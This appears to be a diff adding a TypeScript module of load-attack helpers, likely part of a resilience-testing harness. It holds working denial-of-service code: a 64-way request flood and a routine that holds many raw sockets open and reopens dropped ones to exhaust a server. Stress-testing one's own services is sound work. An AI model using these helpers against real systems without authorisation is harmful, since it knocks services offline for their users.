@@ -1,0 +1,70 @@
+import { Agent, request } from 'node:http';
+import { connect, type Socket } from 'node:net';
+
+/** What an attacker knows and has done. */
+export interface Attack {
+  readonly url: URL;
+  /** The public id of a guest. */
+  readonly victim: string;
+  isOver(): boolean;
+  /** Notes an answer; 0 stands for a connection that failed. */
+  note(status: number): void;
+}
+
+interface Call {
+  readonly method?: string;
+  readonly path: string;
+  readonly headers?: Record<string, string>;
+  readonly body?: string;
+}
+
+const CONCURRENT = 64;
+const agent = new Agent({ keepAlive: true, maxSockets: CONCURRENT });
+
+/** The same again and again, as fast as it is answered, 64 at a time. */
+export async function flatOut(attack: Attack, next: () => Call): Promise<void> {
+  const repeat = async () => {
+    while (!attack.isOver()) attack.note(await call(attack.url, next()));
+  };
+  await Promise.all(Array.from({ length: CONCURRENT }, repeat));
+}
+
+function call(url: URL, { method = 'GET', path, headers = {}, body }: Call): Promise<number> {
+  return new Promise((resolve) => {
+    const asked = request(new URL(path, url), { method, headers, agent }, (response) => {
+      response.resume();
+      response.on('close', () => resolve(response.statusCode ?? 0));
+    });
+    asked.on('error', () => resolve(0));
+    asked.end(body);
+  });
+}
+
+/** Holds `count` connections that say `text` and are kept by `hold`; a connection that is closed is opened again. */
+export async function holdSockets(
+  attack: Attack,
+  count: number,
+  text: string,
+  hold: (socket: Socket) => void,
+): Promise<void> {
+  const sockets = new Set<Socket>();
+  const open = () => {
+    const socket = connect(Number(attack.url.port), attack.url.hostname, () => socket.write(text));
+    sockets.add(socket);
+    socket.on('error', () => {});
+    socket.on('close', () => sockets.delete(socket));
+    hold(socket);
+  };
+  while (!attack.isOver()) {
+    const missing = Math.min(count - sockets.size, 250);
+    for (let opened = 0; opened < missing; opened++) open();
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+  for (const socket of sockets) socket.destroy();
+}
+
+/** Reads what comes, and notes the status of the first answer. */
+export function readOn(attack: Attack, socket: Socket): void {
+  socket.once('data', (bytes) => attack.note(Number(/^HTTP\/1\.1 (\d+)/.exec(String(bytes))?.[1] ?? 0)));
+  socket.resume();
+}
